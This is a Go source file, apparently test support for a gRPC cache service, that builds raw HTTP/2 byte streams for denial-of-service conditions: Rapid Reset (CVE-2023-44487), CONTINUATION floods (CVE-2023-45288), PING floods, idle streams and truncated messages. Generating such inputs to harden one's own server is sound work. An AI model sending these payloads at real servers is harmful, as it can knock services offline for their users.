package hostile

import "encoding/binary"

// The kinds of frames, and a flag (RFC 9113, section 6).
const (
	headersFrame      = 1
	resetFrame        = 3
	settingsFrame     = 4
	pingFrame         = 6
	continuationFrame = 9
	// endHeaders is the flag of HEADERS without CONTINUATION.
	endHeaders = 4
)

// preface is how a client of HTTP/2 begins (RFC 9113, section 3.4).
var preface = string(frame([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), settingsFrame, 0, 0, nil))

// frame appends a frame (RFC 9113, section 4.1).
func frame(to []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	to = append(to, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	return append(binary.BigEndian.AppendUint32(to, stream), payload...)
}

// opening is the header block of a call, without compression of texts (RFC 7541).
func opening(method string) []byte {
	block := []byte{0x83, 0x86} // POST, http
	text := func(s string) { block = append(append(block, byte(len(s))), s...) }
	block = append(block, 0x04) // :path
	text(method)
	block = append(block, 0x01) // :authority
	text("x")
	for _, field := range [][2]string{{"content-type", "application/grpc"}, {"te", "trailers"}} {
		block = append(block, 0x00)
		text(field[0])
		text(field[1])
	}
	return block
}

// method is one that holds its stream open.
const method = "/holt.cache.v1.CacheService/Pipeline"

// resets opens calls and resets each at once (CVE-2023-44487).
func resets(calls int) string {
	var all []byte
	for i := range uint32(calls) {
		stream := 2*i + 1
		all = frame(all, headersFrame, endHeaders, stream, opening(method))
		all = frame(all, resetFrame, 0, stream, []byte{0, 0, 0, 8}) // CANCEL
	}
	return preface + string(all)
}

// opens opens calls that say nothing more.
func opens(calls int) string {
	var all []byte
	for i := range uint32(calls) {
		all = frame(all, headersFrame, endHeaders, 2*i+1, opening(method))
	}
	return preface + string(all)
}

// pings is a flood of PING.
func pings(count int) string {
	var all []byte
	for range count {
		all = frame(all, pingFrame, 0, 0, make([]byte, 8))
	}
	return preface + string(all)
}

// continued is a header block that goes on and on (CVE-2023-45288).
func continued(frames int) string {
	all := frame(nil, headersFrame, 0, 1, opening(method))
	block := append([]byte{0x00, 1, 'a', 0x7f, 0x80, 0x7f}, make([]byte, 16000)...) // one field with a value of 16 KB
	for range frames {
		all = frame(all, continuationFrame, 0, 1, block[:len(block):len(block)])
	}
	return preface + string(all)
}

// declared is a message of which only the beginning is there.
func declared(length uint32) string {
	all := frame(nil, headersFrame, endHeaders, 1, opening("/holt.cache.v1.CacheService/Get"))
	message := binary.BigEndian.AppendUint32([]byte{0}, length)
	return preface + string(frame(all, 0, 0, 1, append(message, "begin"...)))
}
